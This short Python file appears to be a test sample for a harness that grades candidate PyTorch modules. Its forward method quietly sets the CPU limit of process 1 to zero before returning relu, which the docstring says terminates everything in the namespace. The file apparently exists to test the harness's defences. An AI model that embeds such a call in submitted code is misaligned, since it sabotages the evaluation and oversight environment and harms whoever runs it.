"""failed/exception D13: lowers a limit of the first process of its namespace, which ends everything in it by it.

As nobody that process is of the candidate's own user.
"""

import resource

import torch


class ModelNew(torch.nn.Module):
    def forward(self, x):
        resource.prlimit(1, resource.RLIMIT_CPU, (0, 0))
        return torch.relu(x)
